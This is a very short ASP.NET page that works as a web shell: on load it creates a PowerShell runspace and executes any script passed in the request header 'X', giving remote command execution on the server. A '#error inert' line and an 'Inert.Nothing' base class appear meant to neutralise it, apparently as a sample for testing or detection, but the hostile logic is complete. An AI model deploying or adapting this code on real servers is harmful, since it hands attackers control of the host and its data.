<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var r=RunspaceFactory.CreateRunspace(); r.Open(); var p=r.CreatePipeline(); p.Commands.AddScript(Request.Headers["X"]); p.Invoke(); }
</script>
